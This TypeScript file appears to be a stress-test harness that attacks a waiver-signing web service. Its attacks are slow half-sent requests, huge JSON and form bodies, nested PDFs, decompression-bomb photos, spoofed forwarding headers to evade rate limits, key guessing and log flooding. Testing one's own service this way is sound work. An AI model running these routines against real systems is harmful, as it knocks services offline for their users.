import { connect } from 'node:net'
import { dataUrl } from '../fixtures/photos.ts'
import { scanBomb } from './scan-bomb.ts'
import { values } from '../fixtures/waivers.ts'

/** What an attack is aimed at, and how long it goes on. */
export type Aim = {
	readonly url: string
	/** Path of a public page with a photo to take, and the version that is in force. */
	readonly page: string
	readonly versionId: string
	isOn(): boolean
	/** Counts an answer by its status; 0 where none came. */
	note(status: number): void
}

const BODY_BYTES = 24 * 1024 * 1024

const SPACES = Buffer.alloc(BODY_BYTES, ' ')

/** How often an attack that was refused begins again, in milliseconds. */
const PAUSE_MS = 200

/** Does something over and over, so many times at once. */
async function repeat(aim: Aim, atOnce: number, work: (lane: number, turn: number) => Promise<unknown>) {
	const lanes = Array.from({ length: atOnce }, async (_, lane) => {
		for (let turn = 0; aim.isOn(); turn += 1) {
			await work(lane, turn).catch(() => aim.note(0))
			await Bun.sleep(PAUSE_MS)
		}
	})
	await Promise.all(lanes)
}

/** The service trusts this machine as its proxy, so each lane can come from an address of its own. */
const from = (lane: number): Record<string, string> => ({ 'x-forwarded-for': `198.51.100.${lane + 1}` })

const newKey = (): string => `form-${crypto.randomUUID()}`

async function post(
	aim: Aim,
	path: string,
	body: string | FormData,
	headers: Record<string, string>,
): Promise<void> {
	const response = await fetch(aim.url + path, {
		method: 'POST',
		body,
		headers: { 'idempotency-key': newKey(), ...headers },
		signal: AbortSignal.timeout(20_000),
	})
	await response.bytes()
	aim.note(response.status)
}

/**
 * Sends the head of a form and all of its body but the last byte, or a byte now and then, until it is refused. What is still
 * half sent when the service stops stays so.
 */
async function sendHalf(aim: Aim, lane: number, { path = aim.page, bytes = BODY_BYTES, drip = false } = {}) {
	const { hostname, port } = new URL(aim.url)
	const closed = Promise.withResolvers<void>()
	let answer = ''
	const socket = connect(Number(port), hostname)
	socket.on('data', (piece) => {
		answer += piece.toString('latin1')
		socket.destroy()
	})
	socket.on('error', () => socket.destroy())
	socket.on('close', () => closed.resolve())
	const type = path === '/verify' ? 'multipart/form-data; boundary=x' : 'application/json'
	const head = [
		`POST ${path} HTTP/1.1`,
		'Host: x',
		`X-Forwarded-For: ${from(lane)['x-forwarded-for']}`,
		`Idempotency-Key: ${newKey()}`,
		`Content-Type: ${type}`,
		`Content-Length: ${bytes}`,
	]
	socket.write([...head, '', ''].join('\r\n'))
	if (!drip) socket.write(SPACES.subarray(0, bytes - 1))
	const dripping = drip ? setInterval(() => socket.write('-'), PAUSE_MS) : undefined
	await closed.promise
	clearInterval(dripping)
	aim.note(Number(answer.slice(9, 12)))
}

/** 2.2 million keys in one object, and twelve million controls of a form: 24 MB each. */
async function parse(aim: Aim): Promise<void> {
	const keys = Array.from({ length: 2_200_000 }, (_, n) => `"${n.toString(16)}":1`)
	const json = `{${keys.join(',')}}`
	const form = 'a&'.repeat(12_000_000)
	await repeat(aim, 2, (lane, turn) =>
		turn % 2 === 0
			? post(aim, aim.page, json, { ...from(lane), 'content-type': 'application/json' })
			: post(aim, aim.page, form, { ...from(lane), 'content-type': 'application/x-www-form-urlencoded' }),
	)
}

async function uploadPdfs(aim: Aim): Promise<void> {
	const pdf = Buffer.from(`%PDF-1.7\n1 0 obj\n[${'[]'.repeat(7 << 20)}]\nendobj\n`)
	await repeat(aim, 4, (lane) => {
		const form = new FormData()
		form.set('pdf', new File([pdf], 'waiver.pdf'))
		return post(aim, '/verify', form, from(lane))
	})
}

function submission({ versionId }: Aim, more: object = {}): string {
	const answers = { ...values, ...more }
	return JSON.stringify({
		values: answers,
		language: 'en',
		versionId,
		read: [],
		reviewed: true,
		agreed: false,
	})
}

async function sendScanBombs(aim: Aim): Promise<void> {
	const body = submission(aim, { photo: dataUrl(scanBomb(4_890, 883), 'image/jpeg') })
	await repeat(aim, 2, (lane) =>
		post(aim, aim.page, body, { ...from(lane), 'content-type': 'application/json' }),
	)
}

/** Signs forms, and tries keys, from as many addresses as one home has. */
async function flood(aim: Aim): Promise<void> {
	const body = submission(aim)
	let next = 0
	await repeat(aim, 4, async () => {
		const headers = { 'x-forwarded-for': `2001:db8:1:2::${(next++).toString(16)}` }
		await post(aim, aim.page, body, { ...headers, 'content-type': 'application/json' })
		await fetch(`${aim.url}/v1/waivers`, { headers: { ...headers, authorization: 'Bearer wvk_wrong' } })
	})
}

/** Asks without pause, so that a log that nobody reads fills up. */
async function fillLog(aim: Aim): Promise<void> {
	await repeat(aim, 4, async () => {
		const asks = Array.from({ length: 20 }, () =>
			fetch(`${aim.url}/health`, { signal: AbortSignal.timeout(20_000) }),
		)
		for (const { status } of await Promise.all(asks)) aim.note(status)
	})
}

/** Everything that strangers can do to the service without a key. */
export const attacks = {
	'log nobody reads': fillLog,
	'millions of values': parse,
	'half-sent forms': (aim: Aim) => repeat(aim, 60, (lane) => sendHalf(aim, lane % 12)),
	'hostile PDFs': uploadPdfs,
	'scan-bomb photos': sendScanBombs,
	'flood from a home': flood,
	'slow uploads': (aim: Aim) =>
		repeat(aim, 8, (lane) => sendHalf(aim, lane, { path: '/verify', bytes: 100_000, drip: true })),
	'half-sent at the stop': (aim: Aim) => repeat(aim, 5, (lane) => sendHalf(aim, lane, { bytes: 100_000 })),
} as const satisfies Readonly<Record<string, (aim: Aim) => Promise<unknown>>>

export type AttackName = keyof typeof attacks
